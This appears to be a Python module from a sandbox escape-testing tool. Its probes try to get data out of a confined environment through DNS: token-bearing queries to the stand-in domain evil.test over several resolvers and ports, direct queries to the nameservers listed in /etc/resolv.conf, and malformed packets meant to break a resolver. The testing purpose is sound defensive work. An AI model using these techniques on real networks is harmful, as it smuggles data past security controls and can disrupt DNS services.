"""Names as a way out, and resolvers of the program's own choice (D1, D3, D4)."""

from __future__ import annotations

import contextlib
import socket
import struct
from pathlib import Path

from exeat.attack.model import BOUNDARIES, Evidence, Group, Run, Scene, Stopped, need, need_our_resolver
from exeat.attack.moves import WAIT_S, ask, connected, dns_query, family_of, say_tcp, say_udp

GROUP = Group("dns", "DNS", BOUNDARIES)
_A, _NULL, _TXT = 1, 10, 16


def _name(scene: Scene) -> str:
    return f"{scene.token}.evil.test"


def _query(kind: int, key: str = "dns") -> Run:
    def ask_by_udp(scene: Scene) -> str:
        place = need(scene.udp, key)
        with socket.socket(family_of(place[0]), socket.SOCK_DGRAM) as sock:
            sock.settimeout(WAIT_S)
            sock.sendto(dns_query(_name(scene), kind), place)
            return f"answer code {sock.recv(1000)[3] & 15}"

    return ask_by_udp


GROUP.probe("D3.udp53-a", "another resolver by UDP: A")(_query(_A))
GROUP.probe("D3.udp53-txt", "another resolver by UDP: TXT")(_query(_TXT))
GROUP.probe("D3.udp53-null", "another resolver by UDP: NULL")(_query(_NULL))
GROUP.probe("D3.udp53-v6", "another resolver by UDP over IPv6")(_query(_A, "dns6"))


@GROUP.probe("D3.tcp53", "another resolver by TCP")
def query_tcp(scene: Scene) -> str:
    query = dns_query(_name(scene), _TXT)
    with connected(need(scene.tcp, "dns")) as sock:
        return ask(sock, struct.pack("!H", len(query)) + query)


@GROUP.probe("D3.dot", "DNS over TLS, port 853")
def dot(scene: Scene) -> str:
    return say_tcp(scene, need(scene.tcp, "dot"))


@GROUP.probe("D3.high-port", "a resolver on another port")
def high_port(scene: Scene) -> str:
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
        sock.sendto(dns_query(_name(scene), _A), scene.udp["v4"])
    return "sent"


@GROUP.probe("D4.not-dns", "data to port 53 that is no DNS")
def not_dns(scene: Scene) -> str:
    return say_udp(scene, need(scene.udp, "dns"), suffix=scene.token.encode() * 19)


@GROUP.probe("D1.lookup", "data in a name, asked of the system's resolver")
def lookup(scene: Scene) -> str:
    need_our_resolver(scene)
    try:
        socket.getaddrinfo(_name(scene), 443)  # noqa: TID251 - as any program does it
    except socket.gaierror as error:
        return str(error)
    return "got an address"


@GROUP.probe("D1.below-allowed", "data in a name below the allowed one")
def below_allowed(scene: Scene) -> str:
    need_our_resolver(scene)
    with contextlib.suppress(socket.gaierror):
        socket.getaddrinfo(f"{scene.token}.{scene.allowed[0]}", 443)  # noqa: TID251
    return "asked"


@GROUP.probe("D1.txt-lookup", "data in a TXT query to the system's resolver")
def txt_lookup(scene: Scene) -> str:
    need_our_resolver(scene)
    lines = Path("/etc/resolv.conf").read_text().splitlines()
    servers = [line.split()[1] for line in lines if line.startswith("nameserver")]
    for server in servers:
        with socket.socket(family_of(server), socket.SOCK_DGRAM) as sock:
            sock.settimeout(WAIT_S)
            with contextlib.suppress(TimeoutError):
                sock.sendto(dns_query(_name(scene), _TXT), (server, 53))
                sock.recv(1000)
    return f"asked {servers}"


@GROUP.probe("D4.malformed", "a resolver that breaks on malformed queries", evidence=Evidence.WORKS)
def malformed(scene: Scene) -> str:
    """Not a way out: after a pointer loop, 65535 questions and an over-long label the resolver must still answer."""
    head = struct.pack("!6H", 1, 0x0100, 1, 0, 0, 0)
    bad = (
        head + b"\xc0\x0c\x00\x01\x00\x01",
        struct.pack("!6H", 1, 0x0100, 0xFFFF, 0, 0, 0) + b"\x01a\x00\x00\x01\x00\x01",
        head + b"\x7f" + b"a" * 127 + b"\x00\x00\x01\x00\x01",
        b"",
        b"\x00",
    )
    server = ("10.0.2.3" if scene.guest else "127.66.0.53", 53)  # in a guest, QEMU hands it on
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
        for query in bad:
            sock.sendto(query, server)
        if scene.outside:
            return "sent"
        sock.settimeout(WAIT_S)
        good = dns_query(scene.allowed[0], _A)
        sock.sendto(good, server)
        for _ in range(len(bad) + 1):
            answer = sock.recv(1000)
            if answer[:2] == good[:2]:
                if answer[3] & 15:
                    raise Stopped(f"code {answer[3] & 15}")
                return "still answers"
    raise Stopped("no answer")
